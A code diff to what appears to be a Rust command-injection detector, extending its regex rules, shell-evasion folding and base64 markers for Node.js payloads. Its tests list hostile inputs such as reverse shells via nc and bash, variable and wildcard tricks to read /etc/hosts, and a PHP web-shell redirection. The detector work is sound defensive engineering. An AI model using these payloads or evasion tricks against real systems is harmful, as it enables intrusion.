@@ -4,14 +4,17 @@
 //! start of the value puts one. So the rule is a separator followed by a command name and an
 //! argument shape (`-x`, `/path`, `$VAR`, redirection), or by a command that is dangerous with any
 //! argument (`wget`, `nc`, `whoami`, `powershell`). Shell evasions are undone first: quotes and
-//! backslashes inside words (`c'a't`, `c\at`), empty expansions (`$@`, `${x}`, `$u`) and `$IFS`.
-//! Batch `FOR ... IN (...) DO` / `IF ... EQU` blocks, reverse shells, Shellshock, and Node.js /
-//! Perl code that reaches a shell (`require('child_process')`, `process.mainModule`) are matched
-//! directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
+//! backslashes inside words (`c'a't`, `c\at`), empty expansions (`$@`, `${x}`, `$u`, `; $a cat`)
+//! and `$IFS`. Commands run through a wrapper (`nohup`, `strace`, `sudo`) or from a variable
+//! assigned earlier (`c=cat; $c /etc/hosts`), wildcard paths (`/???/c?t`), redirections into
+//! system paths and `!cmd` shell escapes count too. Batch `FOR ... IN (...) DO` / `IF ... EQU`
+//! blocks, reverse shells, Shellshock (a value that *starts* with `() {`), and Node.js / Perl
+//! code that reaches a shell (`require('child_process')`, `process.mainModule`, node-serialize
+//! markers, also base64-wrapped) are matched directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
 //! command-like words, but not in that shape.
 
 use super::gate::{gated, in_sorted, lit, lower, skip_space, starts_word, word_at};
-use super::{stronger, Check, Family, Hit, Rules, Subject, Trigger};
+use super::{Check, Family, Hit, Rules, Subject, Trigger};
 use crate::fields::Field;
 use crate::finding::Severity::{Critical, High};
 use std::borrow::Cow;
@@ -20,8 +23,9 @@ pub(crate) struct Cmdi {
     rules: Rules,
 }
 
-/// Commands that are an attack after a separator when an argument shape follows.
-const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount)";
+/// Commands that are an attack after a separator when an argument shape follows (also what the
+/// PHP check looks for in `system(...)`).
+pub(crate) const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount)";
 
 /// Commands that are an attack after a separator whatever their arguments.
 const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";
@@ -81,8 +85,11 @@ fn command_word<'b>(b: &[u8], mut i: usize, buf: &'b mut [u8; 24]) -> &'b [u8] {
 /// Gate for a shell separator: a known command follows (past spaces, `{`, `(` and quotes).
 fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
     let mut i = e;
-    while i < b.len() && (b[i] <= b' ' || matches!(b[i], b'{' | b'(' | b'!' | b'@')) {
+    while i < b.len() && (b[i] <= b' ' || matches!(b[i], b'{' | b'(' | b'!' | b'@') || (b[i] == b'.' && b.get(i + 1) == Some(&b' '))) {
         i += 1;
+    }
+    if b.get(i) == Some(&b'$') && b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'{') {
+        return true; // a variable run as the command (`&& $c $a`)
     }
     let mut buf = [0u8; 24];
     let w = command_word(b, i, &mut buf);
@@ -103,9 +110,45 @@ fn brace(b: &[u8], s: usize, e: usize) -> bool {
     command_follows(b, s, e) || b[e.min(b.len())..].iter().take(24).take_while(|&&c| c != b'}' && c != b' ').any(|&c| c == b',')
 }
 
-/// `a001`: an IMAP command tag after a line break.
+/// `a001`, `A1`: an IMAP command tag (letters, then digits) after a line break.
 fn is_imap_tag(w: &[u8]) -> bool {
-    w.len() == 4 && w[0].is_ascii_alphabetic() && w[1..].iter().all(u8::is_ascii_digit)
+    let letters = w.iter().take_while(|c| c.is_ascii_alphabetic()).count();
+    (1..=4).contains(&letters) && (2..=8).contains(&w.len()) && w.len() > letters && w[letters..].iter().all(u8::is_ascii_digit)
+}
+
+/// The markers of Node.js deserialization and child-process payloads (`_$$ND_FUNC$$_`,
+/// `__js_function`, `child_process`) as they read inside base64 at each of the three byte
+/// alignments, lower-cased like the matching form: only the characters that depend on the marker
+/// alone are kept. Payloads are smuggled this way in cookies and tokens the application decodes.
+const BASE64_MARKERS: &[&str] = &[
+    "xyqktkrfrlvoqyqkx", "8kje5ex0zvtkmkjf", "fjcrorf9gvu5djcrf",
+    "x19qc19mdw5jdglvb", "9fannfznvuy3rpb2", "fx2pzx2z1bmn0aw9u",
+    "y2hpbgrfchjvy2vzc", "noawxkx3byb2nlc3", "jaglszf9wcm9jzxnz",
+];
+
+/// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`).
+const WRAPPERS: &[&str] = &["busybox", "env", "exec", "ltrace", "nice", "nohup", "strace", "sudo", "time", "timeout", "watch", "xargs"];
+
+/// Gate for `>`: a redirection that starts the value or a command (`>/tmp/x`, `; 2>> /dev/x`).
+fn redirection(b: &[u8], s: usize, e: usize) -> bool {
+    let before = b[..s].iter().rev().take(16).find(|c| !c.is_ascii_digit() && **c != b' ');
+    let target = skip_space(b, e + usize::from(b.get(e) == Some(&b'>')));
+    matches!(before, None | Some(b';' | b'|' | b'&')) && b.get(target) == Some(&b'/')
+}
+
+/// Gate for `-e`: an option on its own (`nc host 80 -e sh`), not a hyphenated word.
+fn exec_option(b: &[u8], s: usize, e: usize) -> bool {
+    s > 0 && b[s - 1] == b' ' && b.get(e) == Some(&b' ')
+}
+
+/// Gate for `?` and `*`: a wildcard inside a path component (`/???/c?t`, `/et*/passwd`), with
+/// the component ending at a `/`, a space or the end (`/search?q=` does not).
+fn glob_component(b: &[u8], s: usize, _e: usize) -> bool {
+    let is_glob = |c: u8| c.is_ascii_alphanumeric() || c == b'?' || c == b'*';
+    let back = b[..s].iter().rev().take(9).take_while(|&&c| is_glob(c)).count();
+    let slash = s > back && b[s - back - 1] == b'/';
+    let fwd = b[s..].iter().take(12).take_while(|&&c| is_glob(c)).count();
+    slash && matches!(b.get(s + fwd), None | Some(b'/' | b' ' | b'\t' | b';' | b'|' | b'&'))
 }
 
 /// Gate for `if`/`for` (Windows batch): a batch condition or loop switch follows, or a batch
@@ -148,33 +191,45 @@ fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
         // An argument shape: option, path, variable, redirection, glob, or end of the value.
-        let arg = r#"(?:\s+[-/~.$<>*?{]|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s*$)"#;
+        let arg = r#"(?:\s+[-/~.$<>*?{%"']|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{1,5}(?:\s|$)|\s*$)"#;
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
-        let strong_after_sep = format!(r"{sep}\s*(?:\{{\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
-        let any_after_sep = format!(r"{sep}\s*(?:\{{\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s|$)");
+        let strong_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        let any_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)");
+        let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
+        let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
         let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
+        let base64_js = BASE64_MARKERS.join("|");
+        let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
         let table = [
-            (r"\(\s*\)\s*\{\s*[^}]*\}\s*;", Critical, 0.95, "Shellshock function definition"),
-            (r"\(\s*\)\s*\{\s*:?\s*;?", Critical, 0.9, "Shellshock function definition"),
+            (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
+            // Bash imports a function from any variable whose value *starts* with `() {`.
+            (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*[^}]*\}\s*;"#, Critical, 0.95, "Shellshock function definition"),
+            (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*:?\s*;?"#, Critical, 0.9, "Shellshock function definition"),
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\s*\[\s*['`]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|env\b|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\brequire\s*\[|__js_function|\bfunction\s*\(\s*\)\s*\{|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
             (r#"\bif\s*(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|["'\[({%!][^=\s]*\s*==|/i\s+\S+\s*={2,3}\s*\S+\s+\S|(?:not\s+)?\S+\s*={2,3}\s*\S+\s+(?:echo|goto|set|call|cmd|exit|copy|del|type|dir|start|md|cd|rd|@|\())"#, High, 0.8, "Windows batch IF"),
             (strong_after_sep.as_str(), Critical, 0.9, "command after a shell separator"),
             (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
+            (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
+            (start_then_sep.as_str(), High, 0.8, "command line"),
+            (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
+            (r"(?:^|[\s;|&=<>(`+])/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
             (r"\$\(\s*[a-z]+[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`", Critical, 0.85, "command substitution"),
             (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
             (start_cmd.as_str(), High, 0.7, "command line"),
+            (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
+            (shell_escape.as_str(), High, 0.8, "shell escape"),
             (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
             (r"\{[a-z-]*,[a-z0-9-]*(?:,[a-z0-9-]*)*\}", High, 0.7, "brace expansion"),
             (r"(?:^|[;|&\s])~[+-]\d*$", High, 0.7, "tilde expansion"),
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
-            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]\d{3}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
-            (r"(?:^|[;\n])\s*\.(?:shell|system|databases|import|load)\b", High, 0.8, "SQLite shell command"),
+            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
+            (r"(?:^|[;\n])\s*\.(?:shell|sh|system|databases|import|load)\b", High, 0.8, "SQLite shell command"),
         ];
         Ok(Cmdi { rules: Rules::new(Family::Cmdi, &table)? })
     }
@@ -211,12 +266,16 @@ fn shell_fold(text: &str) -> Cow<'_, str> {
                     }
                 }
                 Some(c) if c.is_ascii_lowercase() => {
-                    // `$u`, `$ifs`: a short variable glued into a word expands to nothing (or a space).
+                    // `$u`, `$ifs`: a short variable glued into a word, or standing alone as a
+                    // word (`; $a cat`), expands to nothing (or a space).
                     let len = b[i + 1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
+                    let next = b.get(i + 1 + len);
+                    let glued = len <= 2 && next.map_or(true, |c| !c.is_ascii_alphanumeric()) && i > 0 && b[i - 1].is_ascii_alphanumeric();
+                    let alone = len <= 3 && next.map_or(true, |c| *c == b' ') && (i == 0 || matches!(b[i - 1], b' ' | b';' | b'|' | b'&'));
                     if &text[i + 1..i + 1 + len] == "ifs" {
                         out.push(' ');
                         i += 1 + len;
-                    } else if len <= 2 && b.get(i + 1 + len).map_or(true, |c| !c.is_ascii_alphanumeric()) && i > 0 && b[i - 1].is_ascii_alphanumeric() {
+                    } else if glued || alone {
                         i += 1 + len;
                     } else {
                         out.push('$');
@@ -261,6 +320,17 @@ impl Check for Cmdi {
             gated("process", process_member),
             gated("require", starts_word),
             lit("_$$nd_func$$_"),
+            lit("__js_function"),
+            // The first ten characters of each of [`BASE64_MARKERS`] (the rule checks the rest).
+            lit("xyqktkrfrl"),
+            lit("8kje5ex0zv"),
+            lit("fjcrorf9gv"),
+            lit("x19qc19mdw"),
+            lit("9fannfznvu"),
+            lit("fx2pzx2z1b"),
+            lit("y2hpbgrfch"),
+            lit("noawxkx3by"),
+            lit("jaglszf9wc"),
             lit("constructor"),
             lit("module.exports"),
             gated("console", process_member),
@@ -281,6 +351,12 @@ impl Check for Cmdi {
             gated(".databases", sqlite_dot_command),
             gated(".import", sqlite_dot_command),
             gated(".load", sqlite_dot_command),
+            gated(".sh", sqlite_dot_command),
+            gated("-e", exec_option),
+            gated(">", redirection),
+            gated("!", command_follows),
+            gated("?", glob_component),
+            gated("*", glob_component),
             gated("eval", starts_word),
         ];
         T
@@ -295,7 +371,7 @@ impl Check for Cmdi {
         // `ping -c 3 x`, `ansible-config dump`): the shape is tested first, byte by byte, and
         // only then the command list.
         let i = skip_space(text, 0);
-        if !text.get(i).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'/') {
+        if !text.get(i).is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, b'/' | b'\'' | b'"')) {
             return false;
         }
         let word_len = text[i..].iter().take(33).take_while(|&&c| c > b' ').count();
@@ -303,37 +379,63 @@ impl Check for Cmdi {
         if word_len > 32 || arg == i + word_len || arg >= text.len() {
             return false;
         }
-        let shaped = matches!(text[arg], b'-' | b'/' | b'~' | b'$' | b'.' | b'<' | b'>' | b'|' | b'\'' | b'"')
-            || text[i..i + word_len].contains(&b'-')
+        let shaped = matches!(text[arg], b'-' | b'/' | b'~' | b'$' | b'.' | b'<' | b'>' | b'|' | b'\'' | b'"' | b'%')
+            || text[i..i + word_len].iter().any(|&c| matches!(c, b'-' | b';' | b'|' | b'&'))
             || text[arg..].iter().take(24).take_while(|&&c| c > b' ').any(|&c| c == b'.')
             || {
                 let mut buf = [0u8; 24];
                 matches!(word_at(text, arg, &mut buf), b"install" | b"all" | b"report" | b"dump" | b"decrypt")
             };
-        if !shaped {
-            return false;
-        }
         let mut buf = [0u8; 24];
+        if !shaped {
+            // `nohup ifconfig`: a wrapper, then a command (the wrapper is compared in place).
+            let first = &text[i..i + word_len];
+            return WRAPPERS.iter().any(|w| first.eq_ignore_ascii_case(w.as_bytes())) && is_command(command_word(text, arg, &mut buf));
+        }
         let w = command_word(text, i, &mut buf);
         !w.is_empty() && is_command(w)
     }
 
     fn check(&self, s: &Subject<'_>) -> Option<Hit> {
-        let plain = self.rules.best(s.text);
         let folded = shell_fold(s.text);
-        match folded {
-            Cow::Owned(f) if f != s.text => stronger(plain, self.rules.best(&f).map(|mut h| {
-                h.at = h.at.min(s.text.len());
-                h
-            })),
-            _ => plain,
-        }
+        self.rules.best_either(s.text, Some(&folded))
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::super::testing::*;
+
+    /// Standard base64 (enough for the test).
+    fn base64(bytes: &[u8]) -> String {
+        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut out = String::new();
+        for chunk in bytes.chunks(3) {
+            let n = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
+            for k in 0..=chunk.len() {
+                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
+            }
+        }
+        out
+    }
+
+    #[test]
+    fn base64_markers_are_the_markers_encoded_at_each_alignment() {
+        let mut expected = Vec::new();
+        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process"] {
+            for k in 0..3usize {
+                let mut bytes = vec![0u8; k];
+                bytes.extend_from_slice(marker);
+                let enc = base64(&bytes);
+                // Characters whose 6 bits all come from the marker.
+                let stable: String = enc.chars().enumerate().filter(|(g, _)| 6 * g >= 8 * k && 6 * g + 6 <= 8 * (k + marker.len())).map(|(_, c)| c).collect();
+                expected.push(stable.to_ascii_lowercase());
+            }
+        }
+        assert_eq!(super::BASE64_MARKERS, expected.iter().map(String::as_str).collect::<Vec<_>>().as_slice());
+        let triggers: Vec<&str> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit).collect();
+        assert!(super::BASE64_MARKERS.iter().all(|m| triggers.contains(&&m[..10])), "each marker has its trigger");
+    }
 
     #[test]
     fn catches_cmdi() {
@@ -358,6 +460,27 @@ mod tests {
                 "require('child_process').exec('id')",
                 "\nping -c 3 127.0.0.1",
                 "time sh -c whoami",
+                "x\"|netsh %ProgramData%\\a",
+                "1 && (bash) 0>/tmp/f",
+                "sudo -n uname",
+                "nohup wget",
+                "c=/bin/cat; $c /etc/hosts",
+                "; $z ls $z notes.txt",
+                "\"ls\" /srv/",
+                "whoami; true",
+                "\nb12 LOGIN root x",
+                "; at 23:59 \"/tmp/x\"",
+                "x;/usr/b?n/c?t /e?c/hosts",
+                "/???/??ho hi",
+                "1;.sh id",
+                "nc 10.1.1.1 9 -e /bin/sh",
+                ">/var/www/html/x.php",
+                "1; 2>>/tmp/log",
+                ":silent !bash",
+                "session=eyJ4IjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSJ9",
+                "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLnNwYXduKCdscycp",
+                "process[\"mainModule\"]",
+                "__js_function",
             ],
             &[
                 "Tom & Jerry",
@@ -377,6 +500,27 @@ mod tests {
                 "See (above) and {below}",
                 "I'm 100% sure; it's fine",
                 "echo chamber",
+                "Is it done? /me shrugs",
+                "https://example.com/search?q=a*b&page=2",
+                "**bold** and *italic*",
+                "Use the -e flag with grep -e pattern",
+                "time to go; nice weather",
+                "It costs $a lot",
+                "Great!whoami is a weird word",
+                "a > /tmp is a path",
+                "<b>x</b> > /etc/motd",
+                "class Foo { constructor() { this.a = () => {}; } }",
+                ";$x $y $z",
+                "ls? Not sure",
+                "sudo make me a sandwich",
+                "whoami is a command",
+                "glob /usr/*.txt files",
+                "https://example.com/home/?",
+                "/*/items",
+                "route /api/*/posts/*",
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
+                "The process [see above] is simple",
+                "https://example.com/var/?utm=1&x=2",
             ],
         );
     }
